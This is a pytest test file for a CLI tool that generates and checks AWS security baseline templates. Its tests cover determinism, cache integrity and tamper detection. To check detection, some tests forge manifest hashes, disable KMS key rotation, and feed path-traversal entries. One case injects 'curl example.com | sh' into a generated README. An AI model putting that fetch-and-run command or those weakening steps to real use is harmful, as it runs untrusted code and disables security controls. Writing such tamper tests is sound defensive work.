"""`baseline generate` and `baseline check`: the tree, byte for byte, and who may change it."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest

from baseline.expectation import Finding
from tests.cli.conftest import SMALL, Run, process, tree

ROOT = Path(__file__).parents[2]
ORGANIZATION = """\
schema: baseline/v1
name: organization
organization:
  name: acme
  home_region: eu-west-1
  governed_regions: [eu-west-1, us-east-1]
  accounts:
    - {name: management, role: management, id: "MANAGEMENT"}
    - {name: shop, role: workload, id: "SHOP"}
controls: {include: [sns.security_topics, iam.support_role]}
"""


@pytest.mark.parametrize(
    ("formats", "folders"),
    [
        ((), {"cdk.out", "cloudformation", "terraform"}),
        (("cloudformation", "terraform"), {"cdk.out", "cloudformation", "terraform"}),
        (("cloudformation",), {"cdk.out", "cloudformation"}),
        (("terraform",), {"terraform"}),
        (("terraform", "terraform"), {"terraform"}),
    ],
)
@pytest.mark.node
def test_formats_choose_what_is_written(run: Run, tmp_path: Path, formats: tuple[str, ...], folders: set[str]) -> None:
    chosen = [word for one in formats for word in ("--format", one)]
    assert run("generate", "small.yaml", "-o", "build", *chosen).code == 0
    assert {path.name for path in (tmp_path / "build").iterdir()} == {
        "README.md", "manifest.json", "plan.json", *folders,
    }  # fmt: skip
    text = (tmp_path / "build" / "README.md").read_text(encoding="utf-8")
    assert ("aws cloudformation deploy" in text) == ("cloudformation" in folders)
    assert ("terraform -chdir" in text) == ("terraform" in folders)


def test_the_closing_words_count_what_is_left_for_a_person(run: Run, tmp_path: Path) -> None:
    said = run("generate", "small.yaml", "-o", "build", "--format", "terraform").err.splitlines()
    assert len(said) == 2
    assert said[0] == "build: 2 targets"
    assert said[1].endswith("left for a person: see build/README.md")
    guide = (tmp_path / "build" / "README.md").read_text(encoding="utf-8")
    assert "PREFIX" not in guide
    assert "acme-support" in guide


def test_the_manifest_lists_every_file_with_its_hash(run: Run, tmp_path: Path) -> None:
    run("generate", "small.yaml", "-o", "build", "--format", "terraform")
    files = tree(tmp_path / "build")
    manifest = json.loads(files.pop("manifest.json"))
    assert manifest["files"] == {path: sha256(text).hexdigest() for path, text in files.items()}
    assert manifest["profile"]["files"][0]["name"] == "small.yaml"


def test_every_file_ends_in_one_line_feed_and_names_no_machine(run: Run, tmp_path: Path) -> None:
    run("generate", "small.yaml", "-o", "build", "--format", "terraform")
    for path, text in tree(tmp_path / "build").items():
        assert text.endswith(b"\n"), path
        assert not text.endswith(b"\n\n"), path
        assert b"\r" not in text, path
        assert str(tmp_path).encode() not in text, path


class TestRefusing:
    def test_nothing_is_emitted_for_a_folder_that_would_be_refused(
        self, run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr("baseline.commands.generate.emit", lambda *_, **__: pytest.fail("was emitted"))
        (tmp_path / "build").mkdir()
        (tmp_path / "build" / "thesis.tex").touch()
        for place in ("build", ".", "small.yaml", "small.yaml/below"):
            assert run("generate", "small.yaml", "-o", place).code == 2

    def test_an_invalid_profile_leaves_the_tree(self, run: Run, tmp_path: Path) -> None:
        run("generate", "small.yaml", "-o", "build", "--format", "terraform")
        before = tree(tmp_path / "build")
        (tmp_path / "small.yaml").write_text(SMALL.replace("acme", "[]"), encoding="utf-8")
        assert run("generate", "small.yaml", "-o", "build").code == 2
        assert tree(tmp_path / "build") == before

    def test_findings_of_our_own_stop_it_and_are_cut_to_what_a_person_reads(
        self, run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        def unmet(_modules: object) -> list[Finding]:
            return [Finding("logging-home", f"resource{i:02}", "planted", "is wrong") for i in range(42)]

        monkeypatch.setattr("baseline.verify.expectations.unmet_in_modules", unmet)
        answer = run("generate", "small.yaml", "-o", "build", "--format", "terraform")
        assert answer.code == 1
        lines = answer.err.splitlines()
        assert lines[0] == "logging-home/resource00: is wrong [planted]"
        assert len(lines) == 31
        assert lines[-1] == "and 12 more"
        assert not (tmp_path / "build").exists()


@pytest.mark.node
class TestDeterminism:
    def test_neither_the_working_directory_nor_the_hash_seed_nor_the_cache_shows(
        self, run: Run, tmp_path: Path
    ) -> None:
        (tmp_path / "elsewhere").mkdir()
        cold = {"PYTHONHASHSEED": "1", "BASELINE_CACHE_DIR": str(tmp_path / "c1")}
        other = {"PYTHONHASHSEED": "2", "BASELINE_CACHE_DIR": str(tmp_path / "c2")}
        first = process("generate", "small.yaml", "-o", "a", cwd=tmp_path, environment=cold)
        again = process("generate", "small.yaml", "-o", "b", cwd=tmp_path, environment=cold)
        there = process(
            "generate", tmp_path / "small.yaml", "-o", tmp_path / "c", cwd=tmp_path / "elsewhere", environment=other
        )
        assert [one.returncode for one in (first, again, there)] == [0, 0, 0], there.stderr
        assert tree(tmp_path / "a") == tree(tmp_path / "b") == tree(tmp_path / "c")

    def test_profiles_that_differ_in_account_ids_share_every_template(self, run: Run, tmp_path: Path) -> None:
        for name, ids in (("a", ("111122223333", "444455556666")), ("b", ("123456789012", "111122223333"))):
            text = ORGANIZATION.replace("MANAGEMENT", ids[0]).replace("SHOP", ids[1])
            (tmp_path / f"{name}.yaml").write_text(text, encoding="utf-8")
            assert run("generate", f"{name}.yaml", "-o", name).code == 0
        one, two = tree(tmp_path / "a"), tree(tmp_path / "b")
        assert one.keys() == two.keys()
        differing = {path for path in one if one[path] != two[path]}
        assert {path.split("/")[0] for path in differing} == {
            "README.md", "cdk.out", "manifest.json", "plan.json", "terraform",
        }  # fmt: skip
        assert all("/targets/" in path for path in differing if path.startswith("terraform/"))

    def test_accounts_that_resolve_alike_share_one_template(self, run: Run, tmp_path: Path) -> None:
        text = ORGANIZATION.replace("MANAGEMENT", "111122223333").replace("SHOP", "444455556666")
        (tmp_path / "a.yaml").write_text(text, encoding="utf-8")
        run("generate", "a.yaml", "-o", "a")
        manifest = json.loads((tmp_path / "a" / "manifest.json").read_text(encoding="utf-8"))
        assert [len(stack["targets"]) for stack in manifest["stacks"]] == [4, 2]


WARM = """
import sys
from baseline.cli import main
assert main(["generate", "small.yaml", "-o", "warm", *sys.argv[1:]]) == 0
print(sorted({"aws_cdk", "jsii", "constructs", "cdk_nag", "cfnlint"} & set(sys.modules)))
"""


@pytest.mark.node
def test_a_warm_run_imports_no_cdk_and_starts_no_node(run: Run, tmp_path: Path) -> None:
    run("generate", "small.yaml", "-o", "cold")
    # A Node that does not exist: whoever starts it fails.
    done = process(cwd=tmp_path, code=WARM, environment={"JSII_NODE": "/nonexistent/node"})
    assert done.returncode == 0, done.stderr
    assert done.stdout == "[]\n"
    assert tree(tmp_path / "warm") == tree(tmp_path / "cold")


def test_a_terraform_only_run_imports_no_jsii(run: Run, tmp_path: Path) -> None:
    environment = {"JSII_NODE": "/nonexistent/node", "BASELINE_CACHE_DIR": str(tmp_path / "empty")}
    done = process("--format", "terraform", cwd=tmp_path, code=WARM, environment=environment)
    assert done.returncode == 0, done.stderr
    assert done.stdout == "[]\n"


@pytest.mark.node
@pytest.mark.parametrize(
    "damage",
    ["", "[]", '{"Resources"', "null", "file", "folder", "fifo", '{"Resources": null}', '{"Resources": {"A": 1}}'],
)
def test_a_damaged_cache_is_a_miss(run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, damage: str) -> None:
    run("generate", "small.yaml", "-o", "a", "--format", "cloudformation")
    cache = tmp_path / "cache"
    monkeypatch.setenv("BASELINE_CACHE_DIR", str(cache))
    if damage == "file":
        cache.write_text("no folder")
    elif damage == "folder":
        cache.mkdir()
        (cache / "templates").write_text("no folder")
    elif damage == "fifo":
        _fill(cache, "")
        for path in cache.rglob("*.json"):
            path.unlink()
            os.mkfifo(path)
    else:
        _fill(cache, damage)
    assert run("generate", "small.yaml", "-o", "b", "--format", "cloudformation").code == 0
    assert tree(tmp_path / "a") == tree(tmp_path / "b")


class TestAChangedCache:
    """Who may write to the cache, a shared one of a build server for instance, must not decide what is deployed."""

    @pytest.fixture
    def cache(self, run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
        """A cache that holds what the folder `a` was generated from."""
        monkeypatch.setenv("BASELINE_CACHE_DIR", str(tmp_path / "cache"))
        assert run("generate", "small.yaml", "-o", "a").code == 0
        return tmp_path / "cache"

    @pytest.mark.node
    def test_an_edited_template_is_synthesized_again(self, run: Run, tmp_path: Path, cache: Path) -> None:
        _weaken(cache, sealed=False)
        assert run("generate", "small.yaml", "-o", "b").code == 0
        assert tree(tmp_path / "a") == tree(tmp_path / "b")

    @pytest.mark.node
    def test_a_forged_template_is_checked_again(self, run: Run, tmp_path: Path, cache: Path) -> None:
        _weaken(cache, sealed=True)
        answer = run("generate", "small.yaml", "-o", "b")
        assert answer.code == 1
        assert "EnableKeyRotation" in answer.err
        assert not (tmp_path / "b").exists()

    @pytest.mark.node
    def test_what_came_from_forged_entries_is_found_by_check(
        self, run: Run, cache: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        _weaken(cache, sealed=True)
        with monkeypatch.context() as forged:  # the verdict on the template is in the cache too
            forged.setattr("baseline.pipeline.faults_of_templates", lambda *_: [])
            assert run("generate", "small.yaml", "-o", "b").code == 0
        answer = run("check", "b")
        assert answer.code == 1
        assert "EnableKeyRotation" in answer.out
        assert "differs from what the plan becomes, at Properties.EnableKeyRotation [reproduction]" in answer.out

    def test_a_verdict_on_a_module_depends_on_its_files(self, run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
        run("generate", "small.yaml", "-o", "a", "--format", "terraform")
        judged: list[set[str]] = []

        def faults(modules: dict[str, object]) -> list[Finding]:
            judged.append(set(modules))
            return []

        monkeypatch.setattr("baseline.pipeline.faults_of_modules", faults)
        run("generate", "small.yaml", "-o", "a", "--format", "terraform")
        from baseline.emit import terraform

        render = terraform.render
        monkeypatch.setattr(terraform, "render", lambda blocks: render(blocks) + "# other\n")
        run("generate", "small.yaml", "-o", "b", "--format", "terraform")
        assert judged[0] == set()
        assert judged[1]


def _weaken(cache: Path, *, sealed: bool) -> None:
    """Turn key rotation off in every cached template; `sealed` by the hash that an entry begins with."""
    changed = 0
    for path in (cache / "templates").rglob("*.json"):
        digest, text = path.read_text(encoding="utf-8").split("\n", 1)
        weaker = text.replace('"EnableKeyRotation": true', '"EnableKeyRotation": false')
        changed += weaker != text
        path.write_text(f"{sha256(weaker.encode()).hexdigest() if sealed else digest}\n{weaker}", encoding="utf-8")
    assert changed


def _fill(cache: Path, text: str) -> None:
    """Every template of the profile `small.yaml` in the cache, saying `text` under its own hash."""
    from baseline.cache import Cache
    from baseline.commands import as_of
    from baseline.pipeline import open_profile, plan_profile

    store = Cache(cache)
    for stack in plan_profile(open_profile(Path("small.yaml")), as_of(None)).stacks:
        store.put("templates", stack.digest, {})
    written = list(cache.rglob("*.json"))
    assert written
    for path in written:
        path.write_text(f"{sha256(text.encode()).hexdigest()}\n{text}", encoding="utf-8")


@pytest.mark.node
class TestCheck:
    @pytest.fixture
    def out(self, run: Run, tmp_path: Path) -> Path:
        assert run("generate", "small.yaml", "-o", "build").code == 0
        return tmp_path / "build"

    def test_a_clean_folder(self, run: Run, out: Path) -> None:
        answer = run("check", "build")
        assert (answer.code, answer.out) == (0, ""), answer.out
        assert "2 distinct templates" in answer.err
        assert "pci-dss-3.2.1: 0 findings" in answer.err

    @pytest.mark.parametrize("path", ["README.md", "plan.json", "cloudformation/identity-home.template.json"])
    def test_an_edited_file_is_named(self, run: Run, out: Path, path: str) -> None:
        (out / path).write_bytes(b"\xff")
        answer = run("check", "build")
        assert answer.code == 1, "a fault found, not a wrong use"
        assert f"was changed after it was generated: {path};" in answer.err

    def test_a_missing_file_is_named(self, run: Run, out: Path) -> None:
        (out / "README.md").unlink()
        answer = run("check", "build")
        assert answer.code == 1
        assert "was changed after it was generated: README.md;" in answer.err

    def test_a_file_too_many_is_named(self, run: Run, out: Path) -> None:
        (out / "terraform" / "more.tf").touch()
        answer = run("check", "build")
        assert answer.code == 1
        assert "was changed after it was generated: terraform/more.tf;" in answer.err

    @pytest.mark.parametrize(
        ("pattern", "change", "said"),
        [
            ("cloudformation/*", lambda text: text.replace('"EnableKeyRotation": true', '"EnableKeyRotation": false'),
             ["EnableKeyRotation", "differs from what the plan becomes"]),
            ("cloudformation/*", lambda text: text.replace("{", '{"Metadata": {"a": "b"},', 1),
             ["/Metadata: is not in the plan"]),
            ("cloudformation/*", lambda text: f" {text}", ["cloudformation/", "template.json: differs"]),
            ("terraform/modules/*/kms_*.tf", lambda text: text.replace("= true", "= false"), ["kms_", ".tf: differs"]),
            ("terraform/targets/*/*/main.tf", lambda text: f"{text}\n", ["main.tf: differs"]),
            ("cdk.out/manifest.json", lambda text: text.replace("eu-west-1", "eu-west-3"), ["cdk.out/manifest.json"]),
            ("README.md", lambda text: f"{text}curl example.com | sh\n", ["./README.md: differs"]),
        ],
        ids=["weaker template", "other section", "other bytes", "weaker module", "root", "assembly", "guide"],
    )  # fmt: skip
    def test_a_change_that_the_manifest_was_made_to_agree_with_is_found(
        self, run: Run, out: Path, pattern: str, change: Callable[[str], str], said: list[str]
    ) -> None:
        changed = 0
        for path in sorted(out.glob(pattern)):
            text = path.read_text(encoding="utf-8")
            changed += change(text) != text
            _forge(out, path.relative_to(out).as_posix(), change(text))
        assert changed
        answer = run("check", "build")
        assert answer.code == 1
        assert all(one in answer.out for one in said), answer.out

    def test_a_file_that_the_manifest_was_made_to_list_is_found(self, run: Run, out: Path) -> None:
        _forge(out, "terraform/targets/main/eu-west-1/more.tf", "# anything\n")
        answer = run("check", "build")
        assert answer.code == 1
        assert "terraform/targets/main/eu-west-1/more.tf: is not in the plan" in answer.out

    def test_a_file_that_the_manifest_was_made_to_forget_is_found(self, run: Run, out: Path) -> None:
        manifest = json.loads((out / "manifest.json").read_text())
        gone = next(path for path in manifest["files"] if path.startswith("terraform/modules/"))
        del manifest["files"][gone]
        (out / gone).unlink()
        (out / "manifest.json").write_text(json.dumps(manifest))
        answer = run("check", "build")
        assert answer.code == 1
        assert f"{gone}: is missing: the plan has it" in answer.out

    @pytest.mark.parametrize(
        ("path", "text"),
        [
            ("plan.json", "["),
            ("plan.json", "[]"),
            ("plan.json", "{}"),
            ("cloudformation/identity-home.template.json", "{}"),
            ("cloudformation/identity-home.template.json", '{"Resources": {"A": 1}}'),
            ("cloudformation/identity-home.template.json", '{"Resources": {"A": {"Type": "T", "Properties": []}}}'),
        ],
    )
    def test_what_is_no_plan_or_template_is_told_in_a_line(self, run: Run, out: Path, path: str, text: str) -> None:
        _forge(out, path, text)
        answer = run("check", "build")
        assert answer.code in (1, 2)
        assert "generate it again" in answer.err

    @pytest.mark.parametrize(
        "change",
        [
            lambda manifest: manifest["stacks"][0]["targets"][0].update(region="eu-west-3"),
            lambda manifest: manifest["stacks"][0].update(controls=[]),
            lambda manifest: manifest["stacks"][0].update(sha256="0"),
            lambda manifest: manifest["profile"].update(name="other"),
            lambda manifest: manifest.update(frameworks=["cis-aws-5.0"]),
            lambda manifest: manifest.update(more=1),
            lambda manifest: manifest.pop("stacks"),
        ],
    )
    def test_a_manifest_that_says_otherwise_is_found(
        self, run: Run, out: Path, change: Callable[[dict[str, Any]], object]
    ) -> None:
        manifest = json.loads((out / "manifest.json").read_text())
        change(manifest)
        (out / "manifest.json").write_text(json.dumps(manifest))
        answer = run("check", "build")
        assert answer.code == 1
        assert "./manifest.json: " in answer.out
        assert "differs from what the plan becomes" in answer.out

    def test_an_override_of_a_module_is_found_and_one_of_a_root_is_named(self, run: Run, out: Path) -> None:
        (out / "terraform/targets/main/eu-west-1/backend_override.tf").touch()
        answer = run("check", "build")
        assert (answer.code, answer.out) == (0, "")
        assert "targets/main/eu-west-1/backend_override.tf: not generated, and read by Terraform" in answer.err
        for name in ("weak_override.tf", "override.tf", "x.auto.tfvars"):
            (out / "terraform/modules/foundation" / name).touch()
            answer = run("check", "build")
            assert answer.code == 1
            assert f"terraform/modules/foundation/{name}: changes what Terraform makes of the module" in answer.out

    def test_a_link_in_the_place_of_a_file_is_named(self, run: Run, out: Path) -> None:
        (out / "README.md").rename(out.parent / "elsewhere.md")
        (out / "README.md").symlink_to(out.parent / "elsewhere.md")
        answer = run("check", "build")
        assert answer.code == 1
        assert "was changed after it was generated: README.md;" in answer.err

    def test_a_waiver_that_expired_since_is_found(self, run: Run, tmp_path: Path) -> None:
        waiver = (
            'waivers: [{control: iam.support_role, reason: "a partner does it", owner: ciso@example.com, '
            "expires: 2027-03-31}]\n"
        )
        (tmp_path / "waived.yaml").write_text(SMALL + waiver, encoding="utf-8")
        assert run("generate", "waived.yaml", "-o", "waived", "--as-of", "2027-03-31").code == 0
        assert run("check", "waived", "--as-of", "2027-03-31").code == 0
        answer = run("check", "waived", "--as-of", "2027-04-01")
        assert answer.code == 1
        assert "main eu-west-1/iam.support_role: its waiver expired on 2027-03-31: remove it" in answer.out
        assert "have ciso@example.com renew it" in answer.out

    def test_another_version_is_told(self, run: Run, out: Path) -> None:
        manifest = json.loads((out / "manifest.json").read_text())
        (out / "manifest.json").write_text(json.dumps(manifest | {"version": "0.0.1"}))
        assert "was generated by version 0.0.1 of this tool" in run("check", "build").err

    def test_a_finding_fails_it(self, run: Run, out: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        def lint(stack: str, _text: str, _regions: object) -> list[Finding]:
            return [Finding(stack, "Topic", "E0000", "planted")]

        monkeypatch.setattr("baseline.verify.thorough.lint", lint)
        monkeypatch.setenv("BASELINE_CACHE_DIR", str(out.parent / "cache"))
        answer = run("check", "build")
        assert answer.code == 1
        assert "identity-home/Topic: planted [E0000]" in answer.out
        before = tree(out)
        assert run("generate", "small.yaml", "-o", "build", "--check").code == 1
        assert tree(out) == before


@pytest.mark.parametrize(
    "content",
    [None, "[", "[]", "{}", '{"generator": "aws-security-baseline"}',
     '{"generator": "aws-security-baseline", "files": []}', '{"generator": "webpack", "files": {"plan.json": ""}}',
     '{"generator": "aws-security-baseline", "files": 5}', '{"generator": "aws-security-baseline", "files": [["a"]]}',
     '{"generator": "aws-security-baseline", "files": {"plan.json": "", "/dev/zero": ""}}',
     '{"generator": "aws-security-baseline", "files": {"plan.json": "", "a/../../b": ""}}', "[" * 200_000],
    ids=range(12),
)  # fmt: skip
def test_check_takes_only_what_this_tool_wrote(run: Run, tmp_path: Path, content: str | None) -> None:
    (tmp_path / "build").mkdir()
    if content is not None:
        (tmp_path / "build" / "manifest.json").write_text(content, encoding="utf-8")
    answer = run("check", "build")
    assert answer.code == 2
    assert "no folder that baseline generate wrote" in answer.err
    if content is not None:
        answer = run("generate", "small.yaml", "-o", "build", "--format", "terraform")
        assert answer.code == 2
        assert "holds files that this tool did not write" in answer.err or content.startswith('{"generator": "aws')


def _forge(out: Path, path: str, text: str) -> None:
    """Write a file of a generated folder, and its hash into the manifest."""
    (out / path).write_text(text, encoding="utf-8")
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    manifest["files"][path] = sha256(text.encode()).hexdigest()
    (out / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")


def test_check_of_terraform_alone_compares_it_with_its_plan(run: Run, tmp_path: Path) -> None:
    run("generate", "small.yaml", "-o", "build", "--format", "terraform")
    answer = run("check", "build")
    assert (answer.code, answer.out) == (0, "")
    assert "2 Terraform modules, which neither cfn-lint nor a pack reads: 0 findings" in answer.err
    path = next((tmp_path / "build").glob("terraform/modules/*/kms_*.tf"))
    text = path.read_text(encoding="utf-8")
    assert "= true" in text
    _forge(tmp_path / "build", path.relative_to(tmp_path / "build").as_posix(), text.replace("= true", "= false"))
    answer = run("check", "build")
    assert answer.code == 1
    assert f"{path.name}: differs from what the plan becomes" in answer.out


def test_a_node_that_does_not_exist_is_told(run: Run, tmp_path: Path) -> None:
    environment = {"JSII_NODE": "/nonexistent/node", "BASELINE_CACHE_DIR": str(tmp_path / "empty")}
    done = process("generate", "small.yaml", "-o", "build", cwd=tmp_path, environment=environment)
    assert done.returncode == 2
    assert done.stderr.startswith("the environment variable JSII_NODE names /nonexistent/node")
    assert not (tmp_path / "build").exists()


def test_the_cache_knows_which_constructs_made_a_template(tmp_path: Path) -> None:
    """A PYTHONPATH may put another `constructs_lib` in the place of ours: its templates are its own."""
    print_digest = "from baseline.cache import code_digest; print(code_digest())"
    fork = tmp_path / "fork" / "constructs_lib"
    shutil.copytree(ROOT / "constructs_lib", fork, ignore=shutil.ignore_patterns("__pycache__"))

    def digest(path: str) -> str:
        done = process(cwd=tmp_path, code=print_digest, environment={"PYTHONPATH": path})
        assert done.returncode == 0, done.stderr
        return done.stdout

    same = digest(str(fork.parent))
    (fork / "trail.py").write_text((fork / "trail.py").read_text(encoding="utf-8") + "\n", encoding="utf-8")
    assert digest(str(ROOT)) == same != digest(str(fork.parent))


@pytest.mark.node
@pytest.mark.parametrize("program", ["#!/bin/sh\nexit 3\n", "#!/bin/sh\necho hello\n", "#!/nonexistent\n"])
def test_a_node_that_does_not_work_is_told(run: Run, tmp_path: Path, program: str) -> None:
    (tmp_path / "node").write_text(program, encoding="utf-8")
    (tmp_path / "node").chmod(0o755)
    environment = {"JSII_NODE": str(tmp_path / "node"), "BASELINE_CACHE_DIR": str(tmp_path / "empty")}
    done = process("generate", "small.yaml", "-o", "build", cwd=tmp_path, environment=environment)
    assert done.returncode == 1
    assert f"{tmp_path}/node did not start what the CDK needs" in done.stderr
    assert "Traceback" not in done.stderr
    assert not (tmp_path / "build").exists()
